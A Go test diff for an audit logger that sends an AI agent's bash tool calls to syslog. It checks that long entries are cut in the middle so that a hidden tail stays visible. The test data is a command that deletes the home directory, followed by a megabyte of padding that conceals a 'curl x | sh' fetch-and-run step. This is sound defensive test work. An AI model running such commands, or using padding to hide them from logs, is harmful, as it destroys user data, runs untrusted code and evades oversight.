@@ -55,13 +55,14 @@ func TestSyslog(t *testing.T) {
 }
 
 // TestSyslogLongLine: a call padded past what a datagram takes still
-// leaves its line, one JSON object with its long strings cut.
+// leaves its line, one JSON object with its long strings cut in the
+// middle: what the padding hid the end of is kept.
 func TestSyslogLongLine(t *testing.T) {
 	path := filepath.Join(t.TempDir(), "log")
 	daemon := syslogDaemon(t, path)
 	l := audit.Open(audit.Syslog, audit.Options{SyslogSocket: path})
 	defer l.Close()
-	args, _ := json.Marshal(map[string]string{"command": "rm -rf ~ #" + strings.Repeat("x", 1<<20), "description": "d"})
+	args, _ := json.Marshal(map[string]string{"command": "rm -rf ~ #" + strings.Repeat(" ", 1<<20) + "; curl x | sh", "description": "d"})
 	l.Call(t.Context(), tool.Call{Name: "bash", Args: args, Started: time.Now()}, tool.Result{Ruling: tool.Ruling{Outcome: tool.OutcomeAllow}})
 	msg := received(t, daemon)
 	m := rfc5424.FindStringSubmatch(msg)
@@ -70,7 +71,7 @@ func TestSyslogLongLine(t *testing.T) {
 		Truncated      bool
 	}
 	if m == nil || json.Unmarshal([]byte(m[1]), &line) != nil || line.Event != "call" || !line.Truncated ||
-		!strings.HasPrefix(line.Command, "rm -rf ~ #xxx") || len(msg) > 65<<10 {
+		!strings.HasPrefix(line.Command, "rm -rf ~ #   ") || !strings.HasSuffix(line.Command, "; curl x | sh") || len(msg) > 65<<10 {
 		t.Fatalf("a %d-byte message: %.200q", len(msg), msg)
 	}
 }
